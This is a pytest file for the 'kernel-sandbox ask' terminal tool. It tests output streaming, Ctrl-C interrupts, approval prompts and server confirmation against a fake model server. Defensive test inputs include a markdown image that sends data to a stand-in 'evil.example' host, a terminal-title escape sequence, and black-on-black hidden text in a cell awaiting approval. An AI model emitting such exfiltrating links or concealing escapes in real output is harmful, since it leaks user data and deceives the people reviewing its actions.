"""`kernel-sandbox ask` on a pseudo-terminal: the model's text as it streams, and what Ctrl-C does."""

from __future__ import annotations

import os
import pty
import re
import select
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest

from kernel_sandbox.agents.loop import GIVEN_UP
from tests.agents.model_server import Call, Hang, ModelServer, Reply, Say, Slow, model_server
from tests.conftest import missing

COMMAND = Path(sys.executable).parent / "kernel-sandbox"
TOKEN = re.compile(r"\x1b\[(\??[0-9;]*)([A-Za-z])|\r|\n|[^\x1b\r\n]+|\x1b")
THINKING = r"[⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏] thinking  0:0\d"


def run(code: str, text: str = "") -> Call:
    return Call([("execute_python_code", {"python_code": code})], text=text)


def drawn(written: str) -> str:
    """What a terminal shows after it was sent this: lines, and the cursor moved up over them to write them anew."""
    lines, row, column = [""], 0, 0
    for match in TOKEN.finditer(written):
        token, final = match[0], match[2]
        if token == "\n":
            row += 1
            lines += [""] * (row + 1 - len(lines))
        elif token == "\r":
            column = 0
        elif final == "A":
            row = max(0, row - int(match[1] or 1))
        elif final == "K":
            lines[row] = ""
        elif final is None:
            lines[row] = f"{lines[row][:column]:<{column}}{token}{lines[row][column + len(token) :]}"
            column += len(token)
    return "\n".join(line.rstrip() for line in lines)


class Terminal:
    """`kernel-sandbox ask` on a terminal of 80 columns and 24 lines."""

    def __init__(self, directory: Path, server: ModelServer, *arguments: str, own: bool = True) -> None:
        """`own` is whether the environment names the server."""
        self.written = ""
        self._found = 0
        self._ours, theirs = pty.openpty()
        variables = {"TERM": "xterm-256color", "COLUMNS": "80", "LINES": "24", "XDG_STATE_HOME": str(directory)}
        environment = os.environ | variables
        environment |= {"OPENAI_BASE_URL": server.url, "OPENAI_API_KEY": "k"} if own else {}
        self.process = subprocess.Popen(
            [COMMAND, "ask", "--image", "python", *arguments],
            cwd=directory,
            env=environment,
            stdin=theirs,
            stdout=theirs,
            stderr=theirs,
        )
        os.close(theirs)

    def wait_for(self, pattern: str) -> str:
        """Read until the pattern has been written, behind the last one; return what is drawn then."""
        deadline = time.monotonic() + 60
        while not (match := re.compile(pattern).search(self.written, self._found)):
            assert time.monotonic() < deadline, f"no {pattern!r} in:\n{self.written[self._found :]}"
            assert self._read(), f"ended without {pattern!r}:\n{self.written[self._found :]}"
        self._found = match.end()
        return drawn(self.written)

    def _read(self) -> bool:
        if not select.select([self._ours], [], [], 1)[0]:
            return True
        try:
            self.written += os.read(self._ours, 65536).decode(errors="replace")
        except OSError:  # Linux's way to say that the other end is closed
            return False
        return True

    def type(self, line: str) -> None:
        os.write(self._ours, f"{line}\n".encode())

    def press_ctrl_c(self) -> None:
        self.process.send_signal(signal.SIGINT)

    def finish(self) -> str:
        """Wait for the end; return what is drawn then."""
        while self._read():
            pass
        self.process.wait(timeout=30)
        return drawn(self.written)

    def close(self) -> None:
        self.process.kill()
        self.process.wait()
        os.close(self._ours)


@pytest.fixture
def terminal(tmp_path: Path) -> Iterator[Any]:
    """Starts `ask` on a terminal, with a server that has these replies."""
    if reason := missing("docker"):
        pytest.skip(reason)
    opened: list[Any] = []

    def start(*arguments: str, replies: list[Reply]) -> tuple[Terminal, ModelServer]:
        context = model_server(*replies)
        server = context.__enter__()
        opened.append((Terminal(tmp_path, server, *arguments), context))
        return opened[-1][0], server

    yield start
    for shown, context in opened:
        context.__exit__(None, None, None)
        shown.close()


def test_text_is_shown_as_it_streams_and_once_when_it_is_complete(terminal: Any) -> None:
    talk = "I **look** first.\x1b]0;title\x07 ![x](https://evil.example/?d=7)\n\n" + "".join(
        f"- step {n} of many\n" for n in range(30)
    )
    replies: list[Reply] = [
        Slow(run("print('it' + ' ran')", talk), 0.01),
        Slow(Say("It is *42*, and no more than that."), 0.1),
    ]
    shown, _ = terminal("How much?", replies=replies)
    assert re.search(THINKING, shown.wait_for("thinking"))
    streaming = shown.wait_for("step 5")
    assert "I **look** first.␛]0;title␇ ![x](" in streaming  # as it is written; it may end in half a table
    later = shown.wait_for("step 25")
    assert "step 3" not in later
    assert len(later.splitlines()) <= 24
    assert re.search(rf"It is \*42\*, and no more.*\n{THINKING} · 110 tokens", shown.wait_for("no more"))
    final = shown.finish()
    assert shown.process.returncode == 0
    for once in ("I look first.␛]0;title␇ !x", "• step 29 of many", "it ran", "It is 42, and no more than that."):
        assert final.count(once) == 1, final
    assert final.index("step 29") < final.index("it ran") < final.index("It is 42")
    assert "thinking" not in final
    assert "*" not in final
    assert "\x1b]" not in shown.written
    assert "(2 turns, 220 tokens, " in final


def test_ctrl_c_while_the_model_thinks_gives_the_question_up_and_keeps_the_rest(terminal: Any, tmp_path: Path) -> None:
    replies: list[Reply] = [
        run("x = 41"),
        Hang(),
        Slow(Say("A long story. " * 100), 0.05),
        run("x + 1"),
        Say("It is 42."),
    ]
    shown, server = terminal("--save", "out.ipynb", replies=replies)
    for question, seen in (("first", "110 tokens"), ("second", "A long story")):
        shown.wait_for(r"\? ")
        shown.type(question)
        shown.wait_for(seen)
        shown.press_ctrl_c()
        shown.wait_for("The question was given up")
    shown.wait_for(r"\? ")
    shown.press_ctrl_c()  # at the prompt it takes back the line
    shown.wait_for(r"\? ")
    shown.type("third")
    shown.wait_for("It is 42")
    shown.wait_for(r"\? ")
    shown.type("exit")
    assert "A long story" in shown.finish()
    assert shown.process.returncode == 0
    told = [(m["role"], m["content"]) for m in server.requests[-1]["messages"] if m["role"] != "developer"]
    assert [content for role, content in told if role == "user"] == ["first", "second", "third"]
    assert told[3:6] == [("assistant", GIVEN_UP), ("user", "second"), ("assistant", GIVEN_UP)]
    assert told[-1] == ("tool", "42")
    notebook = nbformat.read(tmp_path / "out.ipynb", as_version=4)  # type: ignore[no-untyped-call]
    given_up = "*The question was given up.*"
    sources = ["## first", "x = 41", given_up, "## second", given_up, "## third", "x + 1", "It is 42."]
    assert [cell.source for cell in notebook.cells[1:]] == sources


def test_ctrl_c_interrupts_the_cell_first(terminal: Any) -> None:
    loop = "import time\nprint('ready ' * 2, flush=True)\ntime.sleep(60)"
    replies: list[Reply] = [run(loop), run(loop), Hang(), Say("Here I am.")]
    shown, server = terminal(replies=replies)
    shown.wait_for(r"\? ")
    shown.type("wait")
    for _ in range(2):  # each cell has its own first Ctrl-C
        shown.wait_for("ready ready")
        shown.press_ctrl_c()
        shown.wait_for("KeyboardInterrupt")
    assert "Ctrl-C gives the question up" in shown.wait_for("Ctrl-C gives")
    shown.press_ctrl_c()
    shown.wait_for("given up")
    shown.wait_for(r"\? ")
    shown.type("still there?")
    shown.wait_for("Here I am")
    shown.type("exit")
    shown.finish()
    results = [m["content"] for m in server.requests[2]["messages"] if m["role"] == "tool"]
    assert all("KeyboardInterrupt" in content for content in results)
    assert len(results) == 2


def test_second_ctrl_c_gives_up_a_question_whose_cell_goes_on(terminal: Any) -> None:
    stubborn = (
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nprint('on ' * 2, flush=True)\nwhile True: pass"
    )
    shown, server = terminal(replies=[run(stubborn), run("6 * 7"), Say("It is 42.")])
    shown.wait_for(r"\? ")
    shown.type("loop")
    shown.wait_for("on on")
    shown.press_ctrl_c()
    time.sleep(0.3)
    shown.press_ctrl_c()
    shown.wait_for("given up")
    shown.wait_for(r"\? ")
    shown.type("again")
    shown.wait_for("It is 42")
    shown.type("exit")
    assert "2 turns" in shown.finish()
    assert len(server.requests) == 3


def test_approval_shows_a_short_cell_once_and_ctrl_c_gives_the_question_up(terminal: Any) -> None:
    hidden = "x = 1  # \x1b[30;40mhidden"
    longer = "\n".join(f"y = {n}" for n in range(20))
    replies: list[Reply] = [run(hidden), run(longer), Say("Done."), run("z = 3"), Say("No more.")]
    shown, server = terminal("--approve", replies=replies)
    shown.wait_for(r"\? ")
    shown.type("first")
    for _ in range(2):
        shown.wait_for(r"\[y/N\] ")
        shown.type("y")
    shown.wait_for("Done.")
    shown.wait_for(r"\? ")
    shown.type("second")
    shown.wait_for(r"\[y/N\] ")
    time.sleep(0.5)  # readline does not notice a signal that comes between its prompt and its waiting
    shown.press_ctrl_c()
    shown.wait_for("given up")
    shown.wait_for(r"\? ")
    shown.type("exit")
    final = shown.finish()
    assert final.count("x = 1  # ␛[30;40mhidden") == 1
    assert final.count("y = 19") == 1
    assert len(server.requests) == 4


@pytest.mark.parametrize(("word", "requests"), [("y", 1), ("n", 0), ("", 0)])
def test_server_of_a_file_is_asked_about_before_anything_starts(tmp_path: Path, word: str, requests: int) -> None:
    if reason := missing("docker"):
        pytest.skip(reason)
    with model_server(Say("Here I am.")) as server:
        (tmp_path / ".env").write_text(f"OPENAI_BASE_URL={server.url}\nOPENAI_API_KEY=theirs\n")
        shown = Terminal(tmp_path, server, "Hello?", own=False)
        screen = shown.wait_for(r"Send them\? \[y/N\]: ")
        assert "Sandbox" not in screen
        assert server.requests == []
        shown.type(word)
        screen = shown.finish()
        shown.close()
    assert f"  server:  {server.url}\n  account: by OPENAI_API_KEY of that file\n" in screen
    assert len(server.requests) == requests
    assert shown.process.returncode == (0 if requests else 1)
    assert ("Here I am." in screen) == ("Nothing was sent." not in screen) == bool(requests)
